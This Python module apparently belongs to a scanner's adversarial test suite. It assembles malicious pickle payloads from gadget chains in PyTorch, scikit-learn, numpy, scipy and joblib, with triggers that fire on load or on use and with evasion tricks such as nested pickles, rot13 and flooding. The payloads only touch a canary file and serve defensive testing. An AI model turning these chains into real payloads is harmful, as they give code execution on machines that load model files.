"""Attacks that name only what a policy of known frameworks lets pass, or knows: what counts is how the names are used.

A *primitive* is a callable that does harm when somebody calls it; a *trigger* makes a loader, or the person who
uses what was loaded, call it. Every function here returns an expression (see `program`).
"""

import importlib
import sys
from collections.abc import Callable
from typing import Any

from tests.adversary.program import (
    additems,
    appends,
    build,
    dictionary,
    get,
    kwargs_new,
    lit,
    named,
    new,
    obj,
    pickled,
    put,
    reduce,
    setitem,
    setitems,
    state_of,
    stream,
    tuple_,
)

__all__ = ["PRIMITIVES", "TRIGGERS", "programs"]

Expression = bytes

INNER = stream(reduce("posix:system", "touch canary"))
"""A pickle that sings; nested as bytes."""
PATH = reduce("pathlib:PosixPath", "canary")


def bound(function: Expression, *arguments: Any, **keywords: Any) -> Expression:
    """functools.partial of anything, by its state: its constructor never sees the function."""
    return build(
        reduce("functools:partial", named("builtins:len")),
        tuple_(function, lit(arguments), lit(keywords), b"N"),
    )


def attribute(cls: str, name: str) -> Expression:
    return reduce("builtins:getattr", named(cls), name)


def bunch(**attributes: Expression) -> Expression:
    """An object with nothing but attributes."""
    return build(reduce("types:SimpleNamespace"), dictionary(attributes))


def table() -> Expression:
    import pandas as pd

    return pickled(pd.DataFrame({"a": [1.0, 2.0]}))


def array(values: Any = (1.0, 2.0)) -> Expression:
    import numpy as np

    return pickled(np.asarray(values))


def array_of_integers() -> Expression:
    import numpy as np

    return pickled(np.array([1], dtype=np.intp))


EVALUATED = "a.to_csv('canary')"

PRIMITIVES: dict[str, Callable[[], Expression]] = {
    # methods of classes that getattr may reach
    "path-mkdir": lambda: bound(attribute("pathlib:PosixPath", "mkdir"), PATH, 0o777),
    "path-touch": lambda: bound(attribute("pathlib:Path", "touch"), PATH),
    "path-write": lambda: bound(attribute("pathlib:PosixPath", "write_text"), PATH),
    "path-link": lambda: bound(attribute("pathlib:PosixPath", "symlink_to"), PATH, "nowhere"),
    "array-to-file": lambda: bound(attribute("numpy:ndarray", "tofile"), array(), "canary"),
    "array-dump": lambda: bound(attribute("numpy:ndarray", "dump"), array(), "canary"),
    "table-to-csv": lambda: bound(attribute("pandas:DataFrame", "to_csv"), table(), "canary"),
    "table-to-pickle": lambda: bound(attribute("pandas.core.frame:DataFrame", "to_pickle"), table(), "canary"),
    "table-eval": lambda: bound(attribute("pandas.core.frame:DataFrame", "eval"), table(), EVALUATED, engine=lit("python")),
    # functions of frameworks that are only referred to
    "joblib-loads": lambda: reduce("functools:partial", named("joblib._memmapping_reducer:loads"), bytearray(INNER)),
    "nonlin-exec": lambda: reduce(
        "functools:partial",
        named("scipy.optimize._nonlin:_nonlin_wrapper"),
        "f(a=open('canary','w')): pass\ndef g",
        named("scipy.optimize._nonlin:BroydenFirst"),
    ),
    "codegen-exec": lambda: reduce(
        "functools:partial",
        named("torch._functorch._aot_autograd.subclass_codegen:_compile_and_exec_source"),
        "open('canary','w')\ndef f(): pass",
        {},
        "f",
        "f",
    ),
    "codegen-many": lambda: bound(
        named("torch._functorch._aot_autograd.subclass_codegen:_compile_and_exec_source"), "open('canary','w')", {}
    ),
    "joblib-run": lambda: reduce(
        "functools:partial", named("joblib.testing:check_subprocess_call"), ["touch", "canary"]
    ),
    "torch-writer": lambda: reduce("functools:partial", named("torch._C:PyTorchFileWriter"), "canary"),
    "numpy-memmap": lambda: reduce(
        "functools:partial", named("numpy._core.memmap:memmap"), "canary", "uint8", "w+", 0, 4
    ),
    "ufunc-import": lambda: reduce("functools:partial", named("numpy.core:_ufunc_reconstruct"), "planted", "x"),
    "torch-import": lambda: reduce("functools:partial", named("torch._utils:_import_dotted_name"), "planted"),
    "torch-try-import": lambda: reduce("functools:partial", named("torch._utils:try_import"), "planted"),
    "sklearn-import": lambda: reduce(
        "functools:partial", named("sklearn.utils._set_output:check_library_installed"), "planted"
    ),
    "joblib-mkdirp": lambda: reduce("functools:partial", named("joblib.disk:mkdirp"), "canary"),
    "scipy-netcdf": lambda: reduce("functools:partial", named("scipy.io:netcdf_file"), "canary", "w"),
    "method-type": lambda: new(
        "sklearn.utils._available_if:MethodType", attribute("pathlib:PosixPath", "mkdir"), PATH
    ),
}  # fmt: skip


def with_setstate(callable_: Expression, argument: Any) -> Expression:
    """An object that comes out of a known function with a __setstate__ of its own, and then gets its state."""
    made = reduce(
        "torch._tensor:_rebuild_from_type_v2",
        named("types:SimpleNamespace"),
        named("types:SimpleNamespace"),
        (),
        dictionary({"__setstate__": callable_}),
    )
    return build(made, argument)


def factory(callable_: Expression) -> Expression:
    return reduce("collections:defaultdict", callable_)


SKLEARN = "sklearn.preprocessing._function_transformer:FunctionTransformer"

TRIGGERS: dict[str, Callable[[Expression], Expression]] = {
    # while loading, no argument
    "dict-keys": lambda f: reduce("builtins:dict", bunch(keys=f)),
    "ordered-keys": lambda f: reduce("collections:OrderedDict", bunch(keys=f)),
    "userdict-keys": lambda f: reduce("collections:UserDict", bunch(keys=f)),
    "newobj-dict-init": lambda f: reduce("copyreg:_reconstructor", named("collections:OrderedDict"), named("builtins:dict"), bunch(keys=f)),
    "module-state-keys": lambda f: state_of("torch.nn.modules.linear:Linear", bunch(keys=f)),
    "parameter-detach": lambda f: reduce("torch._utils:_rebuild_parameter", bunch(detach=f), True, None),
    "parameter-new": lambda f: new("torch.nn.parameter:Parameter", bunch(detach=f)),
    "uuid-state": lambda f: state_of("uuid:UUID", factory(f)),
    "backward-hook": lambda f: module(_backward_hooks=hooks(f), _is_full_backward_hook=b"\x88"),
    "tree-state": lambda f: build(
        reduce("sklearn.tree._tree:Tree", 1, array_of_integers(), 1), factory(f)
    ),
    "mt19937-state": lambda f: build(
        reduce("numpy.random._pickle:__bit_generator_ctor", "MT19937"),
        setitems(factory(f), {"bit_generator": "MT19937"}),
    ),
    "missing-key": factory,
    # while loading, with arguments
    "generator-ctor": lambda f: reduce("numpy.random._pickle:__generator_ctor", "x", f),
    "randomstate-ctor": lambda f: reduce("numpy.random._pickle:__randomstate_ctor", "x", f),
    "uuid-replace": lambda f: reduce("uuid:UUID", bunch(replace=f)),
    "estimator-pop": lambda f: state_of("sklearn.linear_model._base:LinearRegression", bunch(pop=f)),
    "optimizer-defaults": lambda f: state_of("torch.optim.sgd:SGD", dictionary({"defaults": bunch(setdefault=f), "param_groups": lit([])})),
    "optimizer-groups": lambda f: state_of(
        "torch.optim.adam:Adam",
        dictionary({"defaults": lit({}), "param_groups": lit([bunch(setdefault=f)])}),
    ),
    "booster-state": lambda f: state_of("lightgbm.basic:Booster", bunch(get=f)),
    "own-setstate": lambda f: with_setstate(f, lit("x")),
    "own-setstate-twice": lambda f: build(build(reduce("types:SimpleNamespace"), dictionary({"__setstate__": f})), "x"),
    "own-setstate-memo": lambda f: build(put(900, build(reduce("argparse:Namespace"), dictionary({"__setstate__": f}))) + b"0" + get(900), "x"),
    "userlist-append": lambda f: appends(build(reduce("collections:UserList"), dictionary({"append": f, "extend": f})), "x"),
    "userdict-table": lambda f: setitem(build(reduce("collections:UserDict"), dictionary({"data": table()})), f, 1),
    "deque-subclass": lambda f: appends(build(reduce("sklearn.utils._bunch:Bunch"), dictionary({"extend": f})), "x"),
    "counter-iter": lambda f: reduce("collections:Counter", reduce("itertools:chain", bunch(keys=f))),
    "additems-add": lambda f: additems(build(reduce("types:SimpleNamespace"), dictionary({"add": f})), "x"),
    "append-method": lambda f: appends(build(reduce("types:SimpleNamespace"), dictionary({"append": f, "extend": f})), "x"),
    "class-of-state": lambda f: build(
        reduce("argparse:Namespace"), tuple_(dictionary({"func": f, "validate": b"\x89", "kw_args": b"N", "inv_kw_args": b"N"}), dictionary({"__class__": named(SKLEARN)}))
    ),
    "parameter-state": lambda f: reduce(
        "torch._utils:_rebuild_parameter_with_state", pickled_tensor(), True, reduce("collections:OrderedDict"),
        dictionary({"__class__": named("torch.nn.parameter:Parameter"), "__setstate__": f, "__repr__": f, "__deepcopy__": f}),
    ),
    # when it is used
    "transform": lambda f: state_of(SKLEARN, dictionary({"func": f, "inverse_func": f, "validate": b"\x89", "accept_sparse": b"\x89", "check_inverse": b"\x89", "feature_names_out": b"N", "kw_args": b"N", "inv_kw_args": b"N"})),
    "pipeline-step": lambda f: state_of("sklearn.pipeline:Pipeline", dictionary({"steps": lit([("a", bunch(transform=f, predict=f, fit=f, get_params=f))]), "memory": b"N", "verbose": b"\x89", "transform_input": b"N"})),
    "search-best": lambda f: state_of("sklearn.model_selection._search:GridSearchCV", dictionary({"n_features_in_": lit(4), "best_params_": lit({}), "best_estimator_": bunch(__sklearn_tags__=f, predict=f, transform=f, predict_proba=f), "estimator": bunch(__sklearn_tags__=f, predict=f, transform=f), "refit": b"\x88", "multimetric_": b"\x89", "scorer_": f})),
    "voting": lambda f: state_of("sklearn.ensemble._voting:VotingRegressor", dictionary({"estimators_": lit([bunch(predict=f)]), "estimators": lit([]), "weights": b"N", "n_jobs": b"N", "verbose": b"\x89"})),
    "target-transformer": lambda f: state_of("sklearn.compose._target:TransformedTargetRegressor", dictionary({"regressor_": bunch(predict=f), "regressor": b"N", "check_inverse": b"\x89", "transformer_": bunch(inverse_transform=f)})),
    "analyzer": lambda f: state_of("sklearn.feature_extraction.text:CountVectorizer", dictionary({"analyzer": f, "input": lit("content"), "vocabulary_": lit({"a": 0}), "fixed_vocabulary_": b"\x88", "stop_words": b"N", "tokenizer": b"N", "preprocessor": b"N", "encoding": lit("utf-8"), "decode_error": lit("strict"), "strip_accents": b"N", "lowercase": b"\x88", "ngram_range": lit((1, 1)), "max_df": lit(1.0), "min_df": lit(1), "max_features": b"N", "binary": b"\x89", "dtype": named("numpy:int64"), "token_pattern": lit("a"), "vocabulary": b"N"})),
    "tokenizer": lambda f: state_of("sklearn.feature_extraction.text:HashingVectorizer", dictionary({"analyzer": lit("word"), "tokenizer": f, "input": lit("content"), "stop_words": b"N", "preprocessor": f, "encoding": lit("utf-8"), "decode_error": lit("strict"), "strip_accents": b"N", "lowercase": b"\x88", "ngram_range": lit((1, 1)), "n_features": lit(8), "binary": b"\x89", "norm": b"N", "dtype": named("numpy:float64"), "token_pattern": b"N", "alternate_sign": b"\x88"})),
    "metric": lambda f: state_of("sklearn.neighbors._unsupervised:NearestNeighbors", dictionary({"metric": f, "effective_metric_": f, "n_neighbors": lit(1), "radius": lit(1.0), "algorithm": lit("brute"), "leaf_size": lit(30), "p": lit(2), "metric_params": b"N", "effective_metric_params_": lit({}), "n_jobs": b"N", "_fit_method": lit("brute"), "_fit_X": array([[1.0, 2, 3, 4]]), "n_samples_fit_": lit(1), "n_features_in_": lit(4), "_tree": b"N"})),
    "kernel": lambda f: state_of("sklearn.kernel_ridge:KernelRidge", dictionary({"kernel": f, "gamma": b"N", "degree": lit(3), "coef0": lit(1), "kernel_params": b"N", "alpha": lit(1), "X_fit_": array([[1.0, 2, 3, 4]]), "dual_coef_": array([1.0]), "n_features_in_": lit(4)})),
    "forward": lambda f: module(forward=f),
    "forward-hook": lambda f: module(_forward_hooks=hooks(f)),
    "forward-pre-hook": lambda f: module(_forward_pre_hooks=hooks(f)),
    "state-dict-hook": lambda f: module(_state_dict_hooks=hooks(f), _state_dict_pre_hooks=hooks(f)),
    "train-method": lambda f: module(train=f, _modules=reduce("collections:OrderedDict", lit([("a", bunch(forward=f, train=f))]))),
    "extra-repr": lambda f: module(extra_repr=f),
    "module-get-name": lambda f: module(_get_name=f),
    "step-hook": lambda f: state_of("torch.optim.sgd:SGD", dictionary({"defaults": lit({}), "param_groups": lit([]), "state": lit({}), "_optimizer_step_pre_hooks": hooks(f), "_zero_grad_profile_name": lit("x"), "zero_grad": f, "step": f})),
    "lambda-lr": lambda f: state_of("torch.optim.lr_scheduler:LambdaLR", dictionary({"lr_lambdas": lit([f]), "base_lrs": lit([0.1]), "last_epoch": lit(0), "optimizer": bunch(param_groups=lit([{"lr": 0.1}])), "_step_count": lit(3), "verbose": b"\x89", "get_lr": f})),
    "parameter-hooks": lambda f: reduce("torch._utils:_rebuild_parameter", pickled_tensor(), True, hooks(f)),
    "tensor-state": lambda f: build(pickled_tensor(), tuple_(b"\x88", b"N", hooks(f))),
    "namespace-repr": lambda f: build(reduce("argparse:Namespace"), dictionary({"_get_kwargs": f})),
    "namespace-eq": lambda f: reduce("builtins:str", build(reduce("argparse:Namespace"), dictionary({"_get_kwargs": f, "_get_args": f}))),
    "model-in-dict": lambda f: lit({"model": bunch(forward=f, predict=f)}),
    "predict-attribute": lambda f: state_of("sklearn.linear_model._base:LinearRegression", dictionary({"predict": f, "coef_": array([1.0] * 4), "intercept_": lit(0.0), "n_features_in_": lit(4), "fit_intercept": b"\x88"})),
    "decision-attribute": lambda f: state_of("sklearn.linear_model._logistic:LogisticRegression", dictionary({"decision_function": f, "predict_proba": f, "coef_": array([[1.0] * 4]), "intercept_": array([0.0]), "classes_": array([0.0, 1.0]), "n_features_in_": lit(4)})),
    "reduce-ex": lambda f: build(reduce("types:SimpleNamespace"), dictionary({"__reduce_ex__": f, "__deepcopy__": f, "__copy__": f})),
    "object-array-str": lambda f: reduce("builtins:str", lit([build(reduce("argparse:Namespace"), dictionary({"_get_kwargs": f}))])),
    "partial-itself": lambda f: f,
    "context": lambda f: bunch(__enter__=f, close=f, items=f, keys=f, copy=f, get=f),
}  # fmt: skip


def hooks(function: Expression) -> Expression:
    return b"ccollections\nOrderedDict\n)R(K\x01" + function + b"u"


def pickled_tensor() -> Expression:
    """A tensor as numpy bytes: no storage needed."""
    return reduce(
        "torch._utils:_rebuild_device_tensor_from_numpy",
        array([1.0, 2.0, 3.0, 4.0]),
        named("torch:float32"),
        "cpu",
        False,
    )


def module(**changes: Expression) -> Expression:
    """An nn.Identity whose state holds more than one."""
    empty = reduce("collections:OrderedDict")
    state = dict.fromkeys(("_parameters", "_buffers", "_modules", "_forward_hooks", "_forward_pre_hooks", "_backward_hooks", "_backward_pre_hooks", "_state_dict_hooks", "_state_dict_pre_hooks", "_load_state_dict_pre_hooks", "_load_state_dict_post_hooks", "_forward_hooks_with_kwargs", "_forward_pre_hooks_with_kwargs", "_forward_hooks_always_called"), empty)  # fmt: skip
    state |= {
        "training": b"\x89",
        "_non_persistent_buffers_set": reduce("builtins:set"),
        "_is_full_backward_hook": b"N",
    }
    return state_of("torch.nn.modules.linear:Identity", dictionary({**state, **changes}))


_SILENT = frozenset({"deque-subclass", "counter-iter"})
"""Triggers that the libraries at hand do not pull; scanned all the same."""

_WITHOUT_ARGUMENTS = frozenset(
    {
        "dict-keys", "ordered-keys", "userdict-keys", "newobj-dict-init", "module-state-keys", "parameter-detach",
        "parameter-new", "uuid-state", "tree-state", "mt19937-state", "missing-key", "forward", "train-method", "extra-repr",
        "module-get-name", "step-hook", "lambda-lr", "namespace-repr", "namespace-eq", "model-in-dict", "object-array-str",
        "partial-itself", "context",
    }
)  # fmt: skip
"""Triggers that call without arguments, so that any primitive fits."""


def programs() -> dict[str, Expression]:
    """Each trigger with primitives that fit, each primitive with a plain trigger, and some more."""
    found: dict[str, Expression] = {}
    for name, trigger in TRIGGERS.items():
        fitting = ("path-mkdir", "joblib-loads") if name in _WITHOUT_ARGUMENTS else ("path-mkdir", "path-link")
        fitting = ("path-mkdir", "codegen-many") if name in _TWO_ARGUMENTS else fitting
        fitting = ("codegen-many",) if name in _THREE_ARGUMENTS else fitting
        fitting = ("path-mkdir", "codegen-exec") if name in _GRADIENTS else fitting
        for primitive in fitting[:1] if name in _SILENT else fitting:
            found[f"{name} / {primitive}"] = trigger(PRIMITIVES[primitive]())
    for name, primitive_ in PRIMITIVES.items():
        found[f"{_PLAIN.get(name, 'dict-keys')} / {name}"] = TRIGGERS[_PLAIN.get(name, "dict-keys")](primitive_())
    return found | _more()


_PLAIN = {"path-write": "generator-ctor", "codegen-many": "forward-hook"}
_TWO_ARGUMENTS = frozenset(
    {
        "uuid-replace",
        "estimator-pop",
        "optimizer-defaults",
        "optimizer-groups",
        "booster-state",
        "metric",
        "forward-pre-hook",
    }
)
_GRADIENTS = frozenset({"parameter-hooks", "tensor-state"})
_THREE_ARGUMENTS = frozenset({"forward-hook", "backward-hook", "state-dict-hook"})


def _more() -> dict[str, Expression]:
    return {
        "bound-method-of-reference": reduce(
            "builtins:dict",
            bunch(keys=new("sklearn.utils._available_if:MethodType", named("joblib._memmapping_reducer:loads"), bytearray(INNER))),
        ),
        "transform-dump": state_of(SKLEARN, _transformer(named("joblib._memmapping_reducer:dump"), {"filename": "canary"})),
        "pop-imports": TRIGGERS["estimator-pop"](named("numpy.core:_ufunc_reconstruct")),
        "setdefault-imports": TRIGGERS["optimizer-defaults"](named("numpy.core:_ufunc_reconstruct")),
        "pop-in-a-dict": state_of("sklearn.pipeline:Pipeline", build(reduce("collections:UserDict"), dictionary({"data": b"N", "pop": named("numpy.core:_ufunc_reconstruct")}))),
        "alias-of-memmap": reduce("numpy._core.memmap:memmap", "canary", "uint8", "w+", 0, 4),
        "graph-module": state_of("torch.ao.quantization.fx.convert:GraphModule", dictionary({"_graph": b"N", "_code": lit("open('canary','w')")})),
        "torch-nested-bytes": reduce("torch.storage:_load_from_bytes", bytearray(INNER)),
        "torch-nested-bytes-inst": named("torch.storage:_load_from_bytes") + b"(" + lit(bytearray(INNER)) + b"tR",
        "torch-nested-from-type": reduce("torch._tensor:_rebuild_from_type_v2", named("torch.storage:_load_from_bytes"), named("builtins:object"), (bytearray(INNER),), None),
        "torch-nested-partial": reduce("builtins:dict", bunch(keys=bound(named("torch.storage:_load_from_bytes"), bytearray(INNER)))),
        "torch-nested-str-latin": reduce("torch.storage:_load_from_bytes", reduce("_codecs:encode", INNER.decode("latin-1"), "latin1")),
        "object-array": object_array(),
        "transform-tofile": state_of(SKLEARN, dictionary({"func": attribute("numpy:ndarray", "tofile"), "inverse_func": b"N", "validate": b"\x89", "accept_sparse": b"\x89", "check_inverse": b"\x89", "feature_names_out": b"N", "kw_args": lit({"file": "canary"}), "inv_kw_args": b"N"})),
        "transform-reference": state_of(SKLEARN, dictionary({"func": named("joblib.testing:check_subprocess_call"), "inverse_func": b"N", "validate": b"\x89", "accept_sparse": b"\x89", "check_inverse": b"\x89", "feature_names_out": b"N", "kw_args": b"N", "inv_kw_args": b"N"})),
        "rv-template": rv(),
        "partial-new": reduce("builtins:dict", bunch(keys=build(new("functools:partial", named("builtins:len")), tuple_(attribute("pathlib:PosixPath", "mkdir"), lit((PATH,)), lit({}), b"N")))),
        "partial-newobj-ex": reduce("builtins:dict", bunch(keys=build(kwargs_new("functools:partial", (named("builtins:len"),), {}), tuple_(attribute("pathlib:PosixPath", "mkdir"), lit((PATH,)), lit({}), b"N")))),
        "partial-by-copyreg": reduce("builtins:dict", bunch(keys=build(reduce("copyreg:__newobj__", named("functools:partial"), named("builtins:len")), tuple_(attribute("pathlib:PosixPath", "mkdir"), lit((PATH,)), lit({}), b"N")))),
        "partial-by-obj": reduce("builtins:dict", bunch(keys=build(obj("functools:partial", named("builtins:len")), tuple_(attribute("pathlib:PosixPath", "mkdir"), lit((PATH,)), lit({}), b"N")))),
        "getattr-called": attribute("pathlib:PosixPath", "touch") + tuple_(PATH) + b"R",
        "itemgetter-called": reduce(reduce("operator:itemgetter", "x"), factory(PRIMITIVES["path-touch"]())),
        "type-three": reduce("builtins:type", "X", (named("builtins:object"),), dictionary({"__call__": attribute("pathlib:PosixPath", "touch")})),
        "abcmeta": new("sklearn.cluster._bicluster:ABCMeta", "X", (named("builtins:dict"),), dictionary({"keys": PRIMITIVES["path-mkdir"]()})),
        "flood": flood(),
        "codec-rot13": reduce("_codecs:encode", "pbcl", "rot13"),
    }  # fmt: skip


def object_array() -> Expression:
    """An array of objects one of which sings while it is loaded: the object is made of known names only."""
    import numpy as np

    empty = pickled(np.array([None], dtype=object))
    return tuple_(empty, reduce("builtins:dict", bunch(keys=PRIMITIVES["path-mkdir"]())))


def rv() -> Expression:
    """A random variable of scipy, whose state holds a template of code."""
    return state_of(
        "scipy.stats._continuous_distns:norm_gen",
        dictionary(
            {
                "_parse_arg_template": lit("open('canary','w')"), "moment_type": lit(0), "xtol": lit(1e-9), "badvalue": lit(0.0),
                "name": lit("norm"), "a": lit(0.0), "b": lit(1.0), "shapes": b"N", "_ctor_param": lit({}), "numargs": lit(0), "momtype": lit(1),
                "_shape_info": lit([]), "_random_state": b"N", "extradoc": b"N", "generic_moment": b"N", "vecentropy": b"N",
            }
        ),
    )  # fmt: skip


def flood() -> bytes:
    """Harmless objects of more classes than findings are kept, and then a payload."""
    for name in _FLOODING:
        importlib.import_module(name)
    found: dict[str, None] = {}
    for name in sorted(sys.modules):
        if name.startswith(("torch.nn.", "torch.optim", "torch.ao.", "sklearn.", "pandas.core.")):
            for attribute_name, value in sorted(vars(sys.modules[name]).items()):
                if isinstance(value, type) and attribute_name[:1].isupper() and _can_be_made(value):
                    found[f"{name}:{attribute_name}"] = None
    objects = b"".join(new(name) + b"0" for name in list(found)[:1200])
    return objects + reduce("posix:system", "touch canary")


_FLOODING = (
    "torch.optim", "sklearn.cluster", "sklearn.decomposition", "sklearn.ensemble", "sklearn.feature_selection",
    "sklearn.linear_model", "sklearn.manifold", "sklearn.mixture", "sklearn.model_selection", "sklearn.neighbors",
    "sklearn.neural_network", "sklearn.preprocessing", "sklearn.svm", "sklearn.covariance", "sklearn.gaussian_process",
    "sklearn.multiclass", "sklearn.impute", "sklearn.compose", "sklearn.pipeline", "sklearn.naive_bayes",
)  # fmt: skip


def _can_be_made(cls: type) -> bool:
    try:
        cls.__new__(cls)
    except Exception:
        return False
    return True


def _transformer(function: Expression, keywords: dict[str, Any]) -> Expression:
    no = dict.fromkeys(("validate", "accept_sparse", "check_inverse"), b"\x89")
    none = dict.fromkeys(("inverse_func", "feature_names_out", "inv_kw_args"), b"N")
    return dictionary({**no, **none, "func": function, "kw_args": lit(keywords)})
